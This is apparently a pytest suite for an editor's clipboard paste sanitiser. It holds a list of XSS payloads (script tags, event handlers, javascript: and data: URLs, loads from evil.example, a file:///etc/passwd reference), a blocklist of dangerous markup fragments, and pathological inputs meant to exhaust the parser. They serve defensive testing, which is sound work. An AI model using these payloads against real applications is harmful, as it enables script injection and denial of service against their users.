"""Nothing that runs, loads or misleads gets through, and no clipboard takes for ever."""

import time

import pytest

from editor_app.body.html import write_html
from editor_app.body.tree import Body
from editor_app.intake.clipboard.html import read_html
from editor_app.intake.clipboard.plain import read_text
from editor_app.intake.clipboard.rich_text import pictures_in
from tests.ui.editor.build import paragraph

TRICKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='https://www.google.com/url?q=javascript:alert(1)'>x</a>",
    "<a href='https://eur01.safelinks.protection.outlook.com/?url=javascript%3Aalert(1)'>x</a>",
    "<style>@import url(//evil.example/x.css); p{background:url(//evil.example/)}</style>",
    "<p style='background:url(javascript:alert(1));width:expression(alert(1))'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg onload=alert(1)>",
    "<math><mi><mglyph><style><!--</style><img src onerror=alert(1)>-->",
    "<img srcset='//evil.example/x.png 1x' src='//evil.example/x.png'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<picture><source srcset='//evil.example/x'><img src='https://evil.example/x'></picture>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href='//evil.example/'><a href=x>x</a>",
    "<iframe src='//evil.example/'></iframe><object data=x></object><embed src=x>",
    "<form action='//evil.example/'><input name=x><button>go</button></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<div><![CDATA[<script>alert(1)</script>]]></div>",
    "<!--><script>alert(1)</script>-->",
    "<xml><x:a onerror=alert(1)></xml>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<img alt='\"><script>alert(1)</script>' src='data:image/png;base64,iVBORw0KGgo='>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "<ol start='1\"><script>alert(1)</script>'><li>x</ol>",
    "<img src='file:///etc/passwd'><img src='file:///etc/msohtmlclip1/../clip_image001.png'>",
)
DEBRIS = (
    "<script", "<style", "<svg", "<math", "<iframe", "<object", "<embed", "<form", "<meta", "<link",
    "<base", "<input", "javascript:", "vbscript:", "data:text", "evil.example", " onerror=",
    " onclick=", " onload=", "expression(", "srcset", "file:", "mso-", " style=",
)  # fmt: skip


@pytest.mark.parametrize("trick", TRICKS)
def test_no_trick_gets_through(trick):
    pasted = read_html(f"<p>before</p>{trick}<p>after</p>", language="en")
    html = write_html(Body(pasted.blocks)).replace("&quot;&gt;&lt;script", "")
    found = [each for each in DEBRIS if each in html.lower().replace("&lt;", "")]
    assert not found, html
    assert all(data.startswith(b"\x89PNG") for data in pasted.pictures.values())
    assert html.startswith("<p>before</p>")


HOSTILE = {
    "divs": "<div>" * 1_000_000 + "x",
    "end tags": "<div>" * 900 + "</b></p>" * 200_000 + "x",
    "attributes": "<p " + " ".join(f"a{i}=1" for i in range(200_000)) + ">x",
    "brackets": "<" * 3_000_000,
    "marks": "<b><i>x</b></i>" * 200_000,
    "style sheet": "<style>" + ".a," * 800_000 + "/*" * 200_000 + "{x:y}</style><p>x",
    "lists": "<ul><li>a</ul>" * 20_000,
    "tables": "<table><tr><td>" * 100_000 + "x",
    "cells": "<table>" + "<tr><td colspan=1000 rowspan=9000>x" * 5_000 + "</table>",
    "notes": "".join(f"<a href='#n{i}' id=r{i}>x</a>" for i in range(5_000))
    + "".join(f"<p id=n{i}><a href='#r{i}'>b</a>n" for i in range(5_000)),
    "notes far apart": "".join(f"<p>a<a href='#n{i}' id=r{i}>x</a></p>" for i in range(3_000))
    + "<div>" + "<p></p>" * 100_000
    + "".join(f"<p id=n{i}><a href='#r{i}'>b</a> n</p>" for i in range(3_000)) + "</div>",
    "links to one place": "<a href='#n'>x</a>" * 3_000 + "<p id=n>" + "<b></b>" * 100_000,
    "captions": "<p class=MsoCaption>x</p>" * 30_000,
    "headings": "<h1 style='mso-list:l0 level1 lfo1'>x</h1>" * 10_000,
    "watchmen": "<a href='https://x.safelinks.protection.outlook.com/?url=" + "%2525" * 200_000
    + "'>x</a>",
}  # fmt: skip


@pytest.mark.parametrize("name", list(HOSTILE))
def test_reading_ends_in_time(name):
    start = time.process_time()
    read_html(HOSTILE[name], language="en")
    assert time.process_time() - start < 15


def test_what_is_too_long_is_cut_and_said():
    pasted = read_html("<p>word </p>" * 200_000, language="en")
    assert pasted.is_cut
    assert pasted.blocks[0] == paragraph("word")
    assert "the rest was left out" in pasted.note()


def test_nul_bytes_and_halves_of_characters_do_no_harm():
    pasted = read_html("<p>a\0b\ud83dc\uffffd</p>", language="en")
    assert pasted.blocks == (paragraph("abcd"),)
    assert read_text("a\0b\ud83dc")[0] == (paragraph("abc"),)


def test_one_endless_word_can_be_laid_out():
    (found,) = read_html("<p>" + "w" * 90_000, language="en").blocks
    assert max(map(len, found.content[0].text.split())) <= 1_000
    assert found.content[0].text.replace(" ", "") == "w" * 90_000


def test_a_hundred_thousand_letters_stay_one_paragraph():
    words = "word " * 19_999 + "word"
    assert read_html(f"<p>{words}</p>").blocks == (paragraph(words),)


@pytest.mark.parametrize("rtf", [b"\\pngblip", b"\\pngblip" + b" " * 50, b"\\pngblip\\a1 0"])
def test_rich_text_without_end_is_read_in_time(rtf):
    start = time.process_time()
    assert pictures_in(rtf * 200_000) == ()
    assert time.process_time() - start < 15


def test_pictures_of_rich_text_are_read_in_their_order():
    rtf = (
        rb"{\rtf1{\*\listpicture{\pict\pngblip 00ff}}text{\*\shppict{\pict{\*\picprop}\picw1"
        rb"\pngblip\bliptag-1{\*\blipuid 0102}"
        b"\r\n8950\r\n4e47}}{\\nonshppict{\\pict\\wmetafile8 "
        rb"0102}}{\pict\jpegblip ffd8}}"
    )
    assert pictures_in(rtf) == (b"\x89PNG", b"\xff\xd8")
    assert pictures_in(b"{\\rtf1" + b"\\pngblip{" * 200_000) == ()
